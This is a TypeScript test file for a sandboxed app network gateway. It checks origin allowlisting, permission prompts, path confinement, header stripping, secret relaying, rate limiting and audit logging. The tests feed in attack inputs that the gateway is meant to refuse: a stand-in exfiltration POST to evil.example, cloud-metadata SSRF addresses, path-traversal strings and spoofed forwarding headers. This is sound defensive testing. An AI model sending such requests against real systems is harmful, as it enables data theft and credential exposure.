import 'fake-indexeddb/auto';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { AuditEntry } from '#lib/model/event.ts';
import type { GrantedOrigin } from '#lib/model/grant.ts';
import { newCreationId, newUlid, urnOf } from '#lib/model/id.ts';
import type { Manifest } from '#lib/model/manifest.ts';
import { ok } from '#lib/model/result.ts';
import type { NetworkCall } from '#lib/services/network/network.ts';
import { createStorage } from '#lib/services/storage/create-storage.ts';
import type { Storage } from '#lib/services/storage/storage.ts';
import { CallLog } from '../mesh/call-log.ts';
import type { Services } from '../services.ts';
import { Buckets } from './bucket.ts';
import { gatewayFor } from './gateway.ts';

const id = newCreationId();
const manifest: Manifest = {
	id: urnOf(id),
	name: 'x',
	title: 'X',
	kind: 'app',
	version: '1.0.0',
	entry: 'a.ts',
};
let rows: AuditEntry[];
let calls: NetworkCall[];
let asked: string[];
let storage: Storage;
let log: CallLog;

beforeEach(async () => {
	[rows, calls, asked] = [[], [], []];
	storage = createStorage({ name: newUlid() });
	await storage.open();
});
afterEach(() => {
	// Its timer would write into the rows of the next test.
	log.flush();
	return storage.close();
});

/** The gateway over real grants, before a network that answers everything. */
function gateway(
	wishes: readonly string[],
	buckets?: Buckets,
): (url: string, init?: RequestInit) => Promise<Response> {
	const services = {
		storage: { grants: storage.grants, audit: (entry: AuditEntry) => rows.push(entry) },
		network: () =>
			Promise.resolve({
				send: (call: NetworkCall) => {
					calls.push(call);
					const headers = [
						['set-cookie', 'a=b'],
						['content-encoding', 'gzip'],
						['x-a', 'b'],
					];
					return Promise.resolve(ok({ status: 200, statusText: '', headers, bytes: new Uint8Array([65]) }));
				},
			}),
		mesh: {},
	} as unknown as Services;
	log = new CallLog(() => services);
	Object.assign(services.mesh, { log });
	const guest = {
		id,
		manifest: () => ({ ...manifest, grants: { net: [...wishes] } }),
		onAsk: (origin: string) => void asked.push(origin),
	};
	const answer = gatewayFor(guest, services, buckets);
	return (url, init) => answer(new Request(url, init));
}
const grant = (origin: string, facts: Partial<GrantedOrigin> = {}) =>
	storage.grants.allow(id, { origin, grantedAt: 1, ...facts });
const titleOf = async (answer: Response): Promise<string> =>
	((await answer.json()) as { title: string }).title;

test('what the manifest does not ask for is refused and not even offered, and its audit row holds no path or query', async () => {
	await grant('https://evil.example');
	const answer = await gateway(['https://api.example'])('https://evil.example/steal?data=secret', {
		method: 'POST',
	});
	expect([answer.status, await titleOf(answer)]).toEqual([
		403,
		expect.stringContaining('does not ask for it'),
	]);
	expect([calls, asked]).toEqual([[], []]);
	expect(rows).toEqual([
		{
			event: 'net.denied',
			outcome: 'denied',
			creationId: id,
			detail: { origin: 'https://evil.example', method: 'POST' },
		},
	]);
});

test('what the manifest asks for waits for the person, who is asked, and the next try after that works', async () => {
	const send = gateway(['https://api.example']);
	expect((await send('https://api.example/a')).status).toBe(403);
	expect(asked).toEqual(['https://api.example']);
	expect(calls).toEqual([]);
	await grant('https://api.example');
	const answer = await send('https://api.example/a?b=c');
	expect([answer.status, await answer.text(), [...answer.headers]]).toEqual([200, 'A', [['x-a', 'b']]]);
	expect(calls[0]).toMatchObject({ holder: id, origins: ['https://api.example'], method: 'GET' });
	await storage.grants.revoke(id, 'https://api.example');
	expect((await send('https://api.example/a')).status).toBe(403);
});

test('a path in the manifest keeps the creation within it', async () => {
	await grant('https://api.example');
	const send = gateway(['https://api.example/v1']);
	for (const path of ['/v2', '/v1x', '/v1/../v2', '/v1/%2e%2e/v2'])
		expect([path, (await send(`https://api.example${path}`)).status]).toEqual([path, 403]);
	for (const path of ['/v1', '/v1/a', '/v1?b'])
		expect([path, (await send(`https://api.example${path}`)).status]).toEqual([path, 200]);
});

test('what would pass for somebody else is left out of the headers', async () => {
	await grant('https://api.example');
	await gateway(['https://api.example'])('https://api.example/', {
		headers: {
			authorization: 'its own',
			'x-own': 'kept',
			'x-aether-caller': 'bank',
			'x-relay-target': 'https://evil.example',
			'x-forwarded-for': '10.0.0.1',
			traceparent: '00-1',
		},
	});
	expect(calls[0]?.headers).toEqual([
		['authorization', 'its own'],
		['x-own', 'kept'],
	]);
});

test("where the person's secret goes along, the creation does not say who it is, and the secret is only named", async () => {
	await grant('https://api.example', { auth: { type: 'bearer' }, relay: 'https://relay.example/r' });
	await gateway(['https://api.example'])('https://api.example/', { headers: { authorization: 'forged' } });
	expect(calls[0]).toMatchObject({
		headers: [],
		secret: { id: `service:${id}:https://api.example`, auth: { type: 'bearer' } },
		relay: 'https://relay.example/r',
		origins: ['https://relay.example'],
	});
});

test.each([
	['http://169.254.169.254/latest', /no creation may reach/],
	['https://[::ffff:a9fe:a9fe]/', /no creation may reach/],
	['http://api.example/', /no https address/],
	['http://192.168.1.1/', /no https address/],
])('%s is refused in plain words whatever was granted', async (url, words) => {
	await grant(new URL(url).origin);

	const answer = await gateway([url])(url);
	expect(answer.status).toBe(403);
	expect(await titleOf(answer)).toMatch(words);
	expect([calls, asked]).toEqual([[], []]);
});

test('a body above 16 MB is not sent', async () => {
	await grant('https://api.example');
	const answer = await gateway(['https://api.example'])('https://api.example/', {
		method: 'POST',
		body: new Uint8Array(16 * 1024 * 1024 + 1),
	});
	expect([answer.status, calls]).toEqual([413, []]);
});

test('calls that were let through are written down in sums', async () => {
	await grant('https://api.example');
	const send = gateway(['https://api.example']);
	await send('https://api.example/secret-path');
	await send('https://api.example/?q=secret');
	log.flush();
	expect(rows).toMatchObject([
		{ event: 'net.allowed', detail: { origin: 'https://api.example', status: 200, count: 2 } },
	]);
	expect(JSON.stringify(rows)).not.toContain('secret');
});

test('who calls without an end is told when to try again, and is one row in the audit log', async () => {
	await grant('https://api.example');
	const send = gateway(['https://api.example'], new Buckets({ burst: 2, perSecond: 1 }, () => 0));
	const answers = [];
	for (let count = 0; count < 5; count++) answers.push(await send('https://api.example/'));
	expect(answers.map(({ status }) => status)).toEqual([200, 200, 429, 429, 429]);
	expect(answers[2]?.headers.get('retry-after')).toBe('1');
	expect(rows.filter(({ event }) => event === 'net.limited')).toHaveLength(1);
});
